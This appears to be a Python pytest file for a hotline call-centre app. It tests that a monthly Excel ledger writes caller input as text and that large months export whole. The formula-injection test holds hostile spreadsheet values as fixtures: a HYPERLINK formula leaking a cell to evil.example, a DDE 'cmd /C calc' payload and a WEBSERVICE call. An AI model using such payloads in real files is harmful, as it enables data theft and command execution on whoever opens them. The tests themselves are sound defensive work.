"""Citizens' records on both databases: in the monthly ledger a caller-controlled string never
becomes a formula, and a month of 40 000 calls (more than a statement may carry parameters
for) is exported whole, a chunk at a time; the desk's earlier calls are the same number's
only, and nobody's for a withheld number."""

from __future__ import annotations

import asyncio
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from hotline.cli import main
from hotline.domain.calls import NewCall
from hotline.domain.tickets import DEFAULT_DAYS, NewTicket, TicketKind
from hotline.domain.workdays import WorkCalendar
from hotline.errors import HotlineError
from hotline.reports.ledger import ledger_in_child
from hotline.store.calls_repo import CallRepository
from hotline.store.database import Database
from hotline.store.tickets_repo import TicketRepository
from hotline.web.desk import caller_card
from tests.month_fill import fill_month
from tests.unit.test_tickets import SH

NOV = datetime(2026, 11, 2, 3, 0, tzinfo=UTC)
# Column of the calls sheet -> a value a spreadsheet would run as a formula or DDE payload.
HOSTILE = {
    12: '=HYPERLINK("http://evil.example/?"&A1,"点击")',  # caller name
    11: "+1+cmd|' /C calc'!A0",  # summary
    13: "-2+3",  # callback number
    10: "@SUM(1)",  # category
}
FIELDS = {12: "caller_name", 11: "summary", 13: "callback_number", 10: "category"}


def report(db: Database, month: str, out: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    monkeypatch.setenv("HOTLINE_DB_URL", db.url)
    monkeypatch.setenv("HOTLINE_TIMEZONE", "Asia/Shanghai")
    return main(["report", "--month", month, "--xlsx", str(out)])


async def test_cells_a_spreadsheet_would_run_are_written_as_text(
        db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = CallRepository(db)
    cid = await calls.open_call(NewCall("c-1", "13900000001", "12345", NOV))
    await calls.update_call(cid, **{FIELDS[col]: v for col, v in HOSTILE.items()})
    tab = await calls.open_call(NewCall("c-2", "13900000002", "12345",
                                        NOV + timedelta(minutes=1)))
    await calls.update_call(tab, caller_name="\t=1+1", summary="\r=2+2")
    tickets = TicketRepository(db, WorkCalendar(SH), dict(DEFAULT_DAYS))
    await tickets.open(NewTicket(TicketKind.REFERRAL, "1001", cid, '=WEBSERVICE("x")',
                                 department="-部门"), NOV)
    out = tmp_path / "ledger.xlsx"
    assert await asyncio.to_thread(report, db, "2026-11", out, monkeypatch) == 0

    wb = openpyxl.load_workbook(out)
    first, second = wb["来电台账"][2], wb["来电台账"][3]
    for column, value in HOSTILE.items():
        cell = first[column]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column
    # (written by lxml a carriage return stays one; by the plain XML writer it is read back
    # as a line feed: either way a text cell, never a formula)
    for cell, value in ((second[12], "\t=1+1"), (second[11], "\r=2+2")):
        assert (str(cell.value).replace("\n", "\r"), cell.data_type, cell.quotePrefix) == \
            (value, "s", True)
    ordinary = first[3]  # the number called: an ordinary string, not quote-prefixed
    assert (ordinary.value, ordinary.data_type, ordinary.quotePrefix) == ("12345", "s", False)
    ticket = wb["工单台账"][2]
    assert (ticket[4].value, ticket[4].data_type) == ('=WEBSERVICE("x")', "s")
    assert (ticket[7].value, ticket[7].data_type) == ("-部门", "s")
    assert not [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]


@pytest.mark.parametrize("db", ["postgresql"], indirect=True)  # the driver with the limit
async def test_a_month_of_40k_calls_is_exported_whole(
        db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    start = datetime(2026, 10, 31, 16, 0, tzinfo=UTC)  # 1 Nov 00:00 in Shanghai
    await fill_month(db, start + timedelta(minutes=1), 40_000, ticket_every=10)
    calls = CallRepository(db)
    await calls.open_call(NewCall("late-oct", "13900000009", "12345",
                                  start - timedelta(seconds=1)))  # October: not in it
    out = tmp_path / "big.xlsx"
    assert await asyncio.to_thread(report, db, "2026-11", out, monkeypatch) == 0

    wb = openpyxl.load_workbook(out, read_only=True)
    rows = list(wb["来电台账"].iter_rows(min_row=2, max_col=16, values_only=True))
    assert len(rows) == 40_000
    assert [r[2] for r in rows[:2]] == ["13900000000", "13900000001"]
    assert rows[-1][2] == "13900039999"
    assert rows[0][15] and not rows[1][15]  # a ticket on every 10th call
    ticketed = [r for r in rows if r[15]]
    assert len(ticketed) == 4000
    tickets = list(wb["工单台账"].iter_rows(min_row=2, values_only=True))
    assert len(tickets) == 4000
    assert {str(t[0]) for t in tickets} == {r[15] for r in ticketed}
    stats = dict(wb["统计"].iter_rows(min_row=2, values_only=True))
    assert stats["来电总数 calls"] == 40_000 and stats["工单总数 tickets"] == 4000
    wb.close()


async def test_earlier_calls_are_the_same_number_exactly_and_none_for_a_withheld_one(
        db: Database) -> None:
    calls = CallRepository(db)
    tickets = TicketRepository(db, WorkCalendar(SH), dict(DEFAULT_DAYS))
    at = NOV
    ids = {}
    for n, (channel, caller) in enumerate([
            ("a1", "13900000001"), ("a2", "+8613900000001"), ("b", "13900000001999"),
            ("c", "1390000000"), ("d", "13800000002"), ("anon1", ""), ("anon2", "anonymous"),
            ("now", "13900000001"), ("now-anon", ""), ("now-anon2", "Anonymous")]):
        ids[channel] = await calls.open_call(NewCall(channel, caller, "12345",
                                                     at + timedelta(minutes=n)))
    await tickets.open(NewTicket(TicketKind.CALLBACK, "1001", ids["d"], "别人的工单"), NOV)
    services = SimpleNamespace(calls=calls, tickets=tickets)
    card = await caller_card(services, ids["now"], SH)  # type: ignore[arg-type]
    assert sorted(e[0] for e in card["earlier"]) == sorted([ids["a1"], ids["a2"]])
    for withheld in ("now-anon", "now-anon2"):
        card = await caller_card(services, ids[withheld], SH)  # type: ignore[arg-type]
        assert card["earlier"] == [] and card["tickets"] == []


async def test_the_consoles_ledger_is_built_in_a_process_of_its_own(tmp_path: Path) -> None:
    """/ledger: the same workbook, from a spawned process over the same database; a bad
    month is the caller's error before any process starts."""
    db = Database(f"sqlite+aiosqlite:///{tmp_path / 'h.db'}")
    await db.upgrade()
    cid = await CallRepository(db).open_call(NewCall("c-1", "13900000001", "12345", NOV))
    await CallRepository(db).update_call(cid, caller_name="=1+1")
    await db.close()
    book, calls, tickets = await ledger_in_child(db.url, "2026-11", "Asia/Shanghai")
    assert (calls, tickets) == (1, 0)
    wb = openpyxl.load_workbook(io.BytesIO(book))
    cell = wb["来电台账"]["M2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")
    with pytest.raises(HotlineError):
        await ledger_in_child(db.url, "2026-13", "Asia/Shanghai")
